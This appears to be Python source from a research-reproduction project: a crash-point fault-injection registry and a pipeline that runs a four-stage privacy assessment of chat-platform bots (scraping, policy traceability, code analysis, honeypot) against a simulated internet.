    "stream.cursor_save",
)

#: Crash points inside the serving layer's vet-worker processes.  They live
#: in their own registry because the batch crash matrix proves coverage of
#: :data:`REGISTRY` against a golden *pipeline* run, which never enters the
#: serving pool; the serving tests hold the equivalent bar for these.
#: ``mid_vet`` fires before the worker computes anything (the vet is lost
#: outright); ``before_result`` fires after the compute but before the
#: result crosses the pipe (the worker did the work and died with it).
SERVING_REGISTRY = (
    "serving.worker.mid_vet",
    "serving.worker.before_result",
)

_REGISTERED = frozenset(REGISTRY) | frozenset(SERVING_REGISTRY)

_lock = threading.Lock()
_hits: dict[str, int] = {}
_handler = None


class UnknownCrashPointError(ValueError):
    """A ``crashpoint()`` call site used a name missing from :data:`REGISTRY`."""


def parse_arm(value: str) -> tuple[str, int]:
    """Parse a ``REPRO_CRASH_AT`` value into ``(name, occurrence)``."""
    name, _, occurrence = value.partition(":")
    return name, int(occurrence) if occurrence else 1


def crashpoint(name: str) -> None:
    """Mark a crash site.  A no-op unless armed, recording, or handled.

    Thread-safe: sharded stages hit per-bot points from worker threads, and
    ``os._exit`` kills the whole process regardless of which thread calls it.
    """
    if name not in _REGISTERED:
        raise UnknownCrashPointError(f"crash point {name!r} is not in the registry")
    with _lock:
        count = _hits[name] = _hits.get(name, 0) + 1
        record_path = os.environ.get(ENV_RECORD)
        if record_path:
            with open(record_path, "a", encoding="utf-8") as stream:
                stream.write(name + "\n")
    if _handler is not None:
        _handler(name, count)
        return
    armed = os.environ.get(ENV_CRASH_AT)
    if armed:
        target, occurrence = parse_arm(armed)
        if name == target and count == occurrence:
            os._exit(EXIT_CODE)


def set_handler(handler) -> None:
    """Install ``handler(name, count)`` for in-process tests (env ignored)."""
    global _handler
    _handler = handler


def hits() -> dict[str, int]:
    """Snapshot of hit counts since the last :func:`reset`."""
    with _lock:
        return dict(_hits)


def reset() -> None:
    """Clear hit counts and any installed handler."""
    global _handler
    with _lock:
        _hits.clear()
    _handler = None


def read_fired(record_path) -> dict[str, int]:
    """Read a ``REPRO_CRASHPOINTS_RECORD`` file into ``{name: hit_count}``."""
    counts: dict[str, int] = {}
    try:
        with open(record_path, encoding="utf-8") as stream:
            for line in stream:
                name = line.strip()
                if name:
                    counts[name] = counts.get(name, 0) + 1
    except FileNotFoundError:
        pass
    return counts
