"""The assessment pipeline: Figure 1 end to end.

``AssessmentPipeline`` first builds (or accepts) a *world* — the virtual
internet with the listing site, consent pages, bot websites, the GitHub
stand-in, and the messaging platform itself — then runs the paper's four
stages against it:

1. **Data collection** — crawl the listing site, resolve invite permissions.
2. **Traceability analysis** — hunt privacy policies, classify disclosure.
3. **Code analysis** — crawl GitHub links, detect permission-check APIs.
4. **Dynamic analysis** — honeypot campaign over the most-voted bots.
"""

from __future__ import annotations

import time
from dataclasses import dataclass

from repro.analysis.code_stats import CodeAnalysisSummary
from repro.analysis.developer_stats import DeveloperDistribution
from repro.analysis.permission_stats import PermissionDistribution
from repro.analysis.traceability_stats import TraceabilitySummary
from repro.botstore.host import build_store_host
from repro.codeanalysis.analyzer import CodeAnalyzer
from repro.core.config import PipelineConfig
from repro.core.results import PipelineResult
from repro.discordsim.platform import DiscordPlatform
from repro.ecosystem.generator import Ecosystem, EcosystemConfig, generate_ecosystem
from repro.honeypot.experiment import HoneypotExperiment
from repro.scraper.github import GitHubScraper
from repro.scraper.topgg import ScrapedBot, TopGGScraper
from repro.scraper.website import WebsiteScraper
from repro.sites.botwebsites import BotWebsiteBuilder
from repro.sites.discordweb import DiscordWebsite
from repro.sites.github import GitHubSite
from repro.traceability.analyzer import TraceabilityAnalyzer
from repro.traceability.validation import ManualReviewValidator
from repro.web.captcha import TwoCaptchaClient
from repro.web.network import VirtualClock, VirtualInternet


@dataclass
class PipelineWorld:
    """Everything the pipeline measures: the simulated internet + platform."""

    ecosystem: Ecosystem
    clock: VirtualClock
    internet: VirtualInternet
    platform: DiscordPlatform
    solver: TwoCaptchaClient

    @classmethod
    def build(cls, config: PipelineConfig) -> "PipelineWorld":
        ecosystem = generate_ecosystem(
            EcosystemConfig(
                n_bots=config.n_bots,
                seed=config.seed,
                targets=config.targets,
                honeypot_window=config.honeypot_sample_size,
            )
        )
        clock = VirtualClock()
        internet = VirtualInternet(clock, seed=config.seed)
        platform = DiscordPlatform(clock, captcha_seed=config.seed + 1)
        build_store_host(ecosystem, internet, config.defenses)
        DiscordWebsite(ecosystem).register(internet)
        GitHubSite(ecosystem).register(internet)
        BotWebsiteBuilder(ecosystem).register(internet)
        from repro.sites.reddit import RedditSite

        RedditSite(seed=config.seed + 5).register(internet)
        solver = TwoCaptchaClient(clock, balance=config.captcha_balance, seed=config.seed + 2)
        return cls(ecosystem=ecosystem, clock=clock, internet=internet, platform=platform, solver=solver)


class AssessmentPipeline:
    """Run the full methodology against a world."""

    def __init__(self, config: PipelineConfig | None = None, world: PipelineWorld | None = None) -> None:
        self.config = config or PipelineConfig()
        self.world = world or PipelineWorld.build(self.config)
        self.traceability_analyzer = TraceabilityAnalyzer()
        self.code_analyzer = CodeAnalyzer(ignore_comments=self.config.ignore_comments_in_code_analysis)

    # -- stages ------------------------------------------------------------

    def collect(self) -> tuple[TopGGScraper, "CrawlResult"]:
        """Stage 1: crawl the listing site."""
        scraper = TopGGScraper(self.world.internet, solver=self.world.solver)
        crawl = scraper.crawl(max_pages=self.config.max_pages, resolve_permissions=self.config.resolve_permissions)
        return scraper, crawl

    def analyze_traceability(self, active_bots: list[ScrapedBot]) -> list:
        """Stage 2: website crawl + keyword traceability per active bot."""
        website_scraper = WebsiteScraper(self.world.internet, solver=self.world.solver, client_id="policy-scraper")
        results = []
        for bot in active_bots:
            if bot.website_url:
                fetch = website_scraper.fetch_policy(bot.website_url)
            else:
                from repro.scraper.website import PolicyFetchResult

                fetch = PolicyFetchResult(False, False, False)
            results.append(
                self.traceability_analyzer.analyze(
                    bot_name=bot.name,
                    permissions=bot.permissions,
                    has_website=fetch.website_reachable,
                    has_policy_link=fetch.policy_link_found,
                    policy_page_valid=fetch.policy_page_valid,
                    policy_text=fetch.policy_text,
                )
            )
        return results

    def analyze_code(self, active_bots: list[ScrapedBot]) -> list:
        """Stage 3: GitHub crawl + Table-3 pattern detection."""
        github_scraper = GitHubScraper(self.world.internet, solver=self.world.solver, client_id="repo-scraper")
        analyses = []
        for bot in active_bots:
            if not bot.github_url:
                continue
            fetched = github_scraper.fetch_repo(bot.github_url)
            analyses.append(
                self.code_analyzer.analyze_repo(
                    bot_name=bot.name,
                    files=fetched.files,
                    link_valid=fetched.link_valid,
                    main_language=fetched.main_language,
                )
            )
        return analyses

    def run_honeypot(self) -> "HoneypotReport":
        """Stage 4: dynamic analysis over the most-voted sample."""
        experiment = HoneypotExperiment(
            self.world.platform,
            self.world.internet,
            solver=self.world.solver,
            seed=self.config.seed + 3,
        )
        feed_source = None
        if self.config.use_osn_feed:
            from repro.honeypot.osn_source import OsnFeedSource

            source = OsnFeedSource.scrape(self.world.internet, seed=self.config.seed + 6)
            if len(source):
                feed_source = source.next_message
        sample = self.world.ecosystem.top_voted(self.config.honeypot_sample_size)
        return experiment.run(
            sample,
            personas_per_guild=self.config.personas_per_guild,
            feed_messages=self.config.feed_messages,
            observation_window=self.config.observation_window,
            feed_source=feed_source,
        )

    # -- orchestration ----------------------------------------------------------

    def run(self) -> PipelineResult:
        """Run every enabled stage and aggregate the paper's statistics."""
        started_wall = time.monotonic()
        started_virtual = self.world.clock.now()
        spent_before = self.world.solver.total_spent

        scraper, crawl = self.collect()
        result = PipelineResult(crawl=crawl, scrape_stats=scraper.stats)
        active = crawl.with_valid_permissions()

        result.permission_distribution = PermissionDistribution.from_bots(crawl.bots)
        result.developer_distribution = DeveloperDistribution.from_bots(crawl.bots)
        from repro.analysis.risk import RiskSummary

        result.risk_summary = RiskSummary.from_bots(crawl.bots)

        if self.config.run_traceability:
            result.traceability_results = self.analyze_traceability(active)
            result.traceability_summary = TraceabilitySummary.from_results(result.traceability_results)
            result.validation = self._validate_traceability()

        if self.config.run_code_analysis:
            result.repo_analyses = self.analyze_code(active)
            result.code_summary = CodeAnalysisSummary.from_analyses(
                active_bots=len(active),
                github_links=sum(1 for bot in active if bot.github_url),
                analyses=result.repo_analyses,
            )

        if self.config.run_honeypot:
            result.honeypot = self.run_honeypot()

        result.wall_seconds = time.monotonic() - started_wall
        result.virtual_seconds = self.world.clock.now() - started_virtual
        result.captcha_dollars = self.world.solver.total_spent - spent_before
        return result

    def _validate_traceability(self):
        """The paper's 100-policy manual-review validation."""
        validator = ManualReviewValidator(self.traceability_analyzer, seed=self.config.seed + 4)
        policies = [
            (bot.name, bot.policy, bot.policy_text)
            for bot in self.world.ecosystem.bots
            if bot.policy.present and bot.policy.link_valid
        ]
        return validator.validate(policies, sample_size=self.config.validation_sample_size)
